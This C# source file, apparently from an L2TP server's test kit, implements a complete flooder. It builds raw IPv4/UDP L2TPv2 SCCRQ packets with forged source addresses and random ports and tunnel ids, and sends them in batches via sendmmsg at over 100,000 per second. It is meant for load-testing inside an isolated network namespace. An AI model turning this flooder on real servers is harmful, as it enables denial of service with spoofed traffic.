using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Runtime.InteropServices;

namespace L2tpd.TestKit;

/// <summary>
/// An off-path attacker that sends SCCRQs of L2TPv2 with forged sources, in batches (sendmmsg), so that one core sends more than 100,000 a
/// second. It cannot read answers. IPv4; from a raw socket in a network namespace of the test's own. Needs root.
/// </summary>
internal sealed unsafe partial class SccrqFlood : IDisposable
{
    private const int Batch = 64;
    private const int PacketSize = 192;
    private const int HeaderSize = 28;
    /// <summary>From here on are the ports of the real peers, which take no answers to others.</summary>
    private const int FirstEphemeral = 32_768;

    private const int AddressOffset = 12;
    private const int PortOffset = 20;
    private const int TunnelIdOffset = HeaderSize + 44;

    private readonly Socket _socket;
    private readonly byte* _memory;
    private readonly MessageHeader* _messages;
    private readonly int _length;
    private readonly Random _random;
    private readonly IPAddress? _source;

    /// <summary>Prepares the packets.</summary>
    /// <param name="networkNamespace">Where the attacker sits.</param>
    /// <param name="target">The LNS.</param>
    /// <param name="seed">Of sources, ports and tunnel ids.</param>
    /// <param name="source">The address that all claim to come from; <c>null</c>: any of 10.0.0.0/8.</param>
    public SccrqFlood(string networkNamespace, IPEndPoint target, int seed, IPAddress? source = null)
    {
        _random = new Random(seed);
        _source = source;
        _socket = NetworkNamespace.Make(networkNamespace, static () =>
            new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw));
        _socket.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
        _socket.SendBufferSize = 4 << 20;
        _memory = (byte*)NativeMemory.AllocZeroed((nuint)(Batch * (PacketSize + sizeof(MessageHeader) + sizeof(Vector)) + 16));
        _messages = (MessageHeader*)(_memory + (Batch * PacketSize));
        var vectors = (Vector*)(_messages + Batch);
        var name = (byte*)(vectors + Batch);
        var packet = Packet(target);
        _length = packet.Length;
        BinaryPrimitives.WriteUInt16LittleEndian(new Span<byte>(name, 2), 2);
        target.Address.TryWriteBytes(new Span<byte>(name + 4, 4), out _);
        for (var i = 0; i < Batch; i++)
        {
            packet.CopyTo(PacketAt(i));
            vectors[i] = new Vector { Base = _memory + (i * PacketSize), Length = (nuint)packet.Length };
            _messages[i] = new MessageHeader { Name = name, NameLength = 16, Vectors = vectors + i, VectorCount = 1 };
        }
    }

    /// <summary>SCCRQs sent.</summary>
    public long Sent { get; private set; }

    /// <summary>Octets of one, IP and UDP headers aside.</summary>
    public int PayloadSize => _length - HeaderSize;

    /// <summary>Sends at that rate until cancelled.</summary>
    public void Run(int perSecond, CancellationToken end)
    {
        var began = Stopwatch.GetTimestamp();
        var sent = 0L;
        while (!end.IsCancellationRequested)
        {
            var due = (long)(Stopwatch.GetElapsedTime(began).TotalSeconds * perSecond);
            if (due - sent < Batch)
            {
                Thread.SpinWait(200);
                if (perSecond < 20_000)
                    Thread.Sleep(1);
                continue;
            }

            // What a loaded machine kept us from sending is not caught up with: the rate is the most there is.
            sent = Math.Max(sent, due - (perSecond / 10)) + Batch;
            SendBatch();
        }
    }

    public void Dispose()
    {
        _socket.Dispose();
        NativeMemory.Free(_memory);
    }

    private static byte[] Packet(IPEndPoint target)
    {
        byte[] avps =
        [
            .. Avp(0, 0, 1), .. Avp(2, 1, 0), .. Avp(3, 0, 0, 0, 3), .. Avp(9, 0, 1), .. Avp(7, [.. "lac.example.net"u8]), .. Avp(10, 0, 8),
            .. Avp(11, [.. "0123456789abcdef"u8]),
        ];
        var packet = new byte[HeaderSize + 12 + avps.Length];
        packet[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), (ushort)packet.Length);
        packet[8] = 64;
        packet[9] = 17;
        target.Address.TryWriteBytes(packet.AsSpan(16), out _);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(22), (ushort)target.Port);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(24), (ushort)(packet.Length - 20));
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(28), 0xc802);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(30), (ushort)(packet.Length - HeaderSize));
        avps.CopyTo(packet, HeaderSize + 12);
        return packet;
    }

    private static byte[] Avp(int type, params byte[] value) => [0x80, (byte)(6 + value.Length), 0, 0, 0, (byte)type, .. value];

    private Span<byte> PacketAt(int index) => new(_memory + (index * PacketSize), PacketSize);

    private void SendBatch()
    {
        for (var i = 0; i < Batch; i++)
        {
            var packet = PacketAt(i);
            if (_source is null)
                BinaryPrimitives.WriteInt32BigEndian(packet[AddressOffset..], _random.Next(0x0a00_0001, 0x0aff_fffe));
            else
                _source.TryWriteBytes(packet[AddressOffset..], out _);
            BinaryPrimitives.WriteUInt16BigEndian(packet[PortOffset..], (ushort)_random.Next(1, _source is null ? 65_536 : FirstEphemeral));
            BinaryPrimitives.WriteUInt16BigEndian(packet[TunnelIdOffset..], (ushort)_random.Next(1, 65_536));
        }

        var sent = sendmmsg((int)_socket.Handle, _messages, Batch, 0);
        Sent += Math.Max(sent, 0);
    }

    [LibraryImport("libc", SetLastError = true), DefaultDllImportSearchPaths(DllImportSearchPath.SafeDirectories)]
    private static partial int sendmmsg(int socket, MessageHeader* messages, uint count, int flags);

    /// <summary>struct iovec.</summary>
    [StructLayout(LayoutKind.Sequential)]
    private struct Vector
    {
        public byte* Base;
        public nuint Length;
    }

    /// <summary>struct mmsghdr.</summary>
    [StructLayout(LayoutKind.Sequential)]
    private struct MessageHeader
    {
        public byte* Name;
        public uint NameLength;
        public Vector* Vectors;
        public nuint VectorCount;
        public byte* Control;
        public nuint ControlLength;
        public nuint Flags;
        public nuint Octets;
    }
}
